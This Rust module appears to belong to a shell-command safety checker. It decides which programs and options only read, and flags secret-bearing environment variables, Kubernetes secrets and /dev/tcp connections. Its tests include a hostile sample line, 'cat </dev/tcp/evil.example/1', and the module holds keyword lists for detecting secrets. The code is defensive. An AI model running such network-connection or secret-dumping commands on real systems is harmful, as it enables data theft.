//! Programs that only read, whatever their arguments, or with the options listed here. Nothing else may ever run with
//! nobody asked, so a program is listed only if no option of it writes, runs or fetches. Git is missing on purpose:
//! a repository's configuration makes even `git status` run programs.

use super::super::findings::Judgement;
use super::super::run::{Invocation, paths};
use super::super::text::Text;
use super::Cli;

/// Prints its arguments, or nothing, or facts of the host.
const INERT: &[&str] = &[
    "echo", "printf", "true", "false", ":", "pwd", "whoami", "id", "groups", "uname", "arch", "nproc", "uptime",
    "free", "df", "lsblk", "lscpu", "lsmod", "vmstat", "basename", "dirname", "seq", "expr", "sleep", "test", "[",
    "getconf", "tty", "cal", "logname", "which", "type", "whereis", "factor", "numfmt", "pgrep", "lsof", "w", "who",
    "users", "pidof", "findmnt",
];

/// Reads the files it names.
const READERS: &[&str] = &[
    "cat",
    "tac",
    "head",
    "tail",
    "wc",
    "nl",
    "cut",
    "rev",
    "tr",
    "cmp",
    "comm",
    "paste",
    "fold",
    "column",
    "strings",
    "stat",
    "file",
    "ls",
    "du",
    "md5sum",
    "sha1sum",
    "sha256sum",
    "sha512sum",
    "cksum",
    "b2sum",
    "grep",
    "egrep",
    "fgrep",
    "realpath",
    "readlink",
    "tree",
    "diff",
    "od",
    "hexdump",
    "jq",
    "base64",
    "base32",
    "expand",
    "unexpand",
    "fmt",
    "pr",
    "join",
    "look",
    "tsort",
];

/// Those that show names, sizes and times, and no content.
const LISTERS: &[&str] = &["ls", "stat", "du", "tree", "file", "realpath", "readlink"];

/// Options of these that write or run something, never end, or read files that no argument names.
const EXCEPT: &[(&str, &[&str])] = &[
    ("tree", &["-o", "-R", "--output", "--fromfile"]),
    (
        "file",
        &[
            "-C",
            "-m",
            "-f",
            "-z",
            "-Z",
            "--compile",
            "--magic-file",
            "--files-from",
            "--uncompress",
            "--uncompress-noreport",
        ],
    ),
    ("jq", &["-f", "--from-file", "-L", "--rawfile", "--slurpfile"]),
    ("diff", DIFF_EXCEPT),
    ("printf", &["-v"]),
    ("base64", &["-o", "--output"]),
    ("base32", &["-o", "--output"]),
    ("grep", GREP_EXCEPT),
    ("egrep", GREP_EXCEPT),
    ("fgrep", GREP_EXCEPT),
    ("md5sum", LISTED_SUMS),
    ("sha1sum", LISTED_SUMS),
    ("sha256sum", LISTED_SUMS),
    ("sha512sum", LISTED_SUMS),
    ("b2sum", LISTED_SUMS),
    ("cksum", LISTED_SUMS),
    ("wc", &["--files0-from"]),
    ("du", &["-X", "--files0-from", "--exclude-from"]),
    ("lsof", &["-r", "-D"]),
    ("findmnt", &["-p", "-F", "--poll", "--tab-file"]),
    ("free", &["-s", "-c", "--seconds", "--count"]),
    ("which", &["-i", "--read-alias", "--read-functions"]),
];
/// They read whatever files a list names.
const LISTED_SUMS: &[&str] = &["-c", "--check"];
const DIFF_EXCEPT: &[&str] = &[
    "-r",
    "-X",
    "-S",
    "-l",
    "--recursive",
    "--to-file",
    "--from-file",
    "--exclude-from",
    "--starting-file",
    "--paginate",
];
const GREP_EXCEPT: &[&str] =
    &["-r", "-R", "-d", "-f", "--recursive", "--dereference-recursive", "--directories", "--file", "--exclude-from"];

/// Kubernetes objects whose content is a secret.
const SECRET_KINDS: &[&str] = &["secret", "secrets"];
/// Kubernetes objects into which secrets find their way; their names may be shown, their content not.
const CONFIG_KINDS: &[&str] = &["cm", "configmap", "configmaps"];

pub(super) fn judge(call: &Invocation<'_>) -> Option<Judgement> {
    match call.program {
        "kubectl" => return kubectl(call),
        "printenv" if !call.args.is_empty() && call.args.iter().all(|arg| names_no_secret(&arg.text)) => {
            return Some(Judgement::unknown("it prints a variable"));
        }
        "env" | "printenv" | "set" if call.elsewhere => {
            return Some(Judgement::loss(
                super::super::assessment::DestructionKind::Secrets,
                "shows the environment there, with the secrets in it",
            ));
        }
        "env" | "printenv" => return Some(Judgement::unknown("it prints the environment, secrets included")),
        "command" => return Some(Judgement::Reads),
        "date" if call.args.iter().any(|arg| arg.text.starts_with("-f") || arg.text.starts_with("--file")) => {
            return call.args.iter().find_map(paths::secret);
        }
        "hostname" | "date" | "ps" => return shows_only(call),
        _ => {}
    }
    let reads_files = READERS.contains(&call.program);
    if !reads_files && !INERT.contains(&call.program) {
        return None;
    }
    if reads_files && let Some(judgement) = secret_content(call) {
        return Some(judgement);
    }
    if let Some(judgement) = written_by(call) {
        return Some(judgement);
    }
    if call.program != "echo" && call.args.iter().any(|arg| !arg.exact) {
        return Some(Judgement::unknown("what it is told isn't known before"));
    }
    if let Some(why) = super::limits::exceeded(call) {
        return Some(Judgement::unknown(why));
    }
    if call.args.iter().any(|arg| arg.text.starts_with("/dev/tcp/") || arg.text.starts_with("/dev/udp/")) {
        return Some(Judgement::unknown("it opens a connection"));
    }
    let except = EXCEPT.iter().find(|(program, _)| *program == call.program).map_or(&[][..], |(_, options)| options);
    if call.args.iter().any(|arg| except.iter().any(|option| is_spelt(option, &arg.text))) {
        return Some(Judgement::unknown(format!("an option of {} writes or runs something", call.program)));
    }
    if call.program == "strings" && call.args.iter().any(|arg| arg.text.starts_with('@')) {
        return Some(Judgement::unknown("it takes further arguments, any file among them, from a file"));
    }
    if call
        .args
        .iter()
        .any(|arg| paths::is_disk(&arg.text) || (!arg.exact && matches!(call.program, "echo" | "printf")))
    {
        return Some(Judgement::unknown("what it prints isn't known before, and may be a secret"));
    }
    if reads_files && !LISTERS.contains(&call.program) && !operands(call).iter().all(may_be_operand) {
        return Some(Judgement::unknown("what it reads may hold a secret"));
    }
    Some(Judgement::Reads)
}

/// True for a variable whose name speaks of no secret.
fn names_no_secret(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    !["SECRET", "TOKEN", "PASS", "KEY", "CREDENTIAL", "URL", "DSN", "AUTH"].iter().any(|word| upper.contains(word))
        && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
}

/// The content of a secret, or of a tree that holds some. A name, a size and a time are no content.
fn secret_content(call: &Invocation<'_>) -> Option<Judgement> {
    if LISTERS.contains(&call.program) {
        // Some options take a list of names from a file, and complain of each line of it.
        let lists = ["-f", "-X", "--files-from", "--files0-from", "--exclude-from", "--fromfile"];
        let is_read = |arg: &Text| lists.iter().any(|option| is_spelt(option, &arg.text));
        if !call.args.iter().any(is_read) {
            return call
                .args
                .iter()
                .any(|arg| paths::is_secret(&arg.text))
                .then(|| Judgement::unknown("it lists secrets"));
        }
        let attached = |arg: &Text| arg.map(|text| text.split_once('=').map_or(text, |(_, value)| value).to_owned());
        return call.args.iter().find_map(|arg| paths::secret(&attached(arg)));
    }
    if call.program == "jq" && call.args.iter().any(|arg| arg.text.contains("import") || arg.text.contains("include")) {
        return call.args.iter().find_map(paths::mentioned);
    }
    let is_grep = matches!(call.program, "grep" | "egrep" | "fgrep");
    let recursive = is_grep && Cli::read(call.args, &[]).has(&["-r", "-R", "--recursive", "--dereference-recursive"]);
    let tree = || operands(call).iter().find_map(paths::secret_tree).filter(|_| recursive);
    call.args.iter().find_map(paths::secret).or_else(tree)
}

/// `tree -o FILE` and `base64 -o FILE` write.
fn written_by(call: &Invocation<'_>) -> Option<Judgement> {
    if !matches!(call.program, "tree" | "base64" | "base32") {
        return None;
    }
    let cli = Cli::read(call.args, &["-o", "--output"]);
    let attached = call.args.iter().filter_map(|arg| arg.text.strip_prefix("-o"));
    let targets = cli.values(&["-o", "--output"]).chain(attached);
    let judgements = targets.map(|target| paths::written(&Text::exact(target), false));
    judgements.into_iter().find(|judgement| matches!(judgement, Judgement::Destroys(_)))
}

/// True for the name of a program that only reads or prints. A project may name a script of its own so where the
/// name is a plain verb; `plain_verbs` counts these too.
pub(in crate::command) fn is_reader(name: &str, plain_verbs: bool) -> bool {
    const OF_PROJECTS: &[&str] = &["test", "type", "users", "look", "join", "expand", "fold", "which"];
    (READERS.contains(&name) || INERT.contains(&name)) && (plain_verbs || !OF_PROJECTS.contains(&name))
}

/// The arguments that name files, or may; a pattern, a set of characters or a program doesn't.
fn operands<'a>(call: &Invocation<'a>) -> &'a [Text] {
    let first = call.args.iter().position(|arg| !arg.text.starts_with('-'));
    let gives_pattern = call.args.iter().any(|arg| arg.text.starts_with("-e") || arg.text.starts_with("--regexp"));
    match (call.program, first) {
        ("tr", _) => &[],
        ("grep" | "egrep" | "fgrep" | "jq", Some(at)) if !gives_pattern && options_alone(&call.args[..at]) => {
            &call.args[at + 1..]
        }
        _ => call.args,
    }
}

/// True where the first word after these options is no value of the last one.
fn options_alone(options: &[Text]) -> bool {
    const ALONE: &[&str] = &["-n", "-i", "-c", "-v", "-o", "-E", "-F", "-P", "-q", "-s", "-w", "-x", "-l", "-H", "-h"];
    options.last().is_none_or(|option| {
        let letters = option.text.get(1..).unwrap_or_default();
        letters.chars().all(|letter| ALONE.contains(&format!("-{letter}").as_str()))
            || matches!(option.text.as_str(), "-r" | "-e" | "-S" | "-M" | "-C")
    })
}

/// A value that is attached to an option may name a file as well.
fn may_be_operand(arg: &Text) -> bool {
    if !arg.text.starts_with('-') || arg.text == "-" {
        return paths::may_be_read(arg);
    }
    match arg.text.split_once('=') {
        Some((_, value)) => paths::may_be_read(&arg.map(|_| value.to_owned())),
        None => !arg.text.contains(['/', '.']),
    }
}

/// True when `given` is `option`, alone, among other letters, with a value attached, or shortened.
fn is_spelt(option: &str, given: &str) -> bool {
    let name = given.split_once('=').map_or(given, |(name, _)| name);
    match option.strip_prefix("--") {
        Some(_) => name.len() > 2 && name.starts_with("--") && option.starts_with(name),
        None => given.starts_with('-') && !given.starts_with("--") && given.contains(&option[1..]),
    }
}

/// `date -s` and `hostname NAME` set; `ps e` shows the environment of every process.
fn shows_only(call: &Invocation<'_>) -> Option<Judgement> {
    let shows = match call.program {
        "ps" => call
            .args
            .iter()
            .all(|arg| matches!(arg.text.as_str(), "aux" | "ax" | "axu" | "auxf" | "-e" | "-ef" | "-A" | "-f")),
        "date" => call.args.iter().all(|arg| arg.text.starts_with('+') || arg.text == "-u"),
        _ => call.args.iter().all(|arg| matches!(arg.text.as_str(), "-f" | "-s" | "-i" | "-I" | "-d")),
    };
    shows.then_some(Judgement::Reads)
}

/// Reading subcommands with the options that select and print; templates and other credentials are left out.
fn kubectl(call: &Invocation<'_>) -> Option<Judgement> {
    const VALUED: &[&str] = &[
        "-n",
        "--namespace",
        "-o",
        "--output",
        "-l",
        "--selector",
        "-c",
        "--container",
        "--tail",
        "--since",
        "--context",
        "--field-selector",
        "--sort-by",
        "--limit-bytes",
    ];
    const FLAGS: &[&str] = &[
        "-A",
        "--all-namespaces",
        "--previous",
        "-p",
        "--timestamps",
        "--no-headers",
        "--show-labels",
        "--all-containers",
        "--containers",
        "--prefix",
        "--client",
        "--short",
        "-L",
        "--ignore-not-found",
    ];
    let cli = Cli::read(call.args, VALUED);
    let reads =
        matches!(
            cli.word(0),
            "get"
                | "describe"
                | "logs"
                | "top"
                | "explain"
                | "version"
                | "api-resources"
                | "api-versions"
                | "cluster-info"
                | "events"
        ) || matches!((cli.word(0), cli.word(1)), ("rollout", "status" | "history") | ("auth", "can-i" | "whoami"));
    let plain = call.args.iter().all(|arg| arg.exact)
        && cli.options.iter().all(|option| VALUED.contains(&option.name) || FLAGS.contains(&option.name))
        && matches!(cli.value(&["-o", "--output"]), None | Some("wide" | "name" | "yaml" | "json"));
    let shows_content = cli.word(0) == "describe" || matches!(cli.value(&["-o", "--output"]), Some("yaml" | "json"));
    let names_secrets = cli.words.iter().skip(1).any(|word| {
        word.text.split([',', '/', '.']).any(|kind| {
            let kind = kind.to_ascii_lowercase();
            SECRET_KINDS.iter().any(|secret| kind.ends_with(secret))
                || (shows_content && CONFIG_KINDS.contains(&kind.as_str()))
        })
    });
    let dump = cli.word(0) == "cluster-info" && cli.word(1) == "dump";
    (reads && plain && !names_secrets && !dump).then_some(Judgement::Reads)
}

#[cfg(test)]
mod tests {
    use crate::command::may_run;

    #[test]
    fn what_reads_by_a_list_or_runs_something_is_not_known_to_only_read() {
        for line in [
            "strings @options",
            "file -z x.gz",
            "file -Z x.gz",
            "file --uncompress x.gz",
            "diff -l a b",
            "diff --paginate a b",
            "md5sum -c list",
            "sha256sum --check list",
            "cat </dev/tcp/evil.example/1",
            "kubectl get externalsecrets -o yaml",
            "kubectl get sealedsecrets.bitnami.com -o yaml",
        ] {
            assert!(may_run(line).is_err(), "{line}");
        }
        for line in ["strings a.out", "file x.gz", "diff a b", "sha256sum a", "kubectl get pods -o yaml"] {
            assert_eq!(may_run(line), Ok(()), "{line}");
        }
    }
}
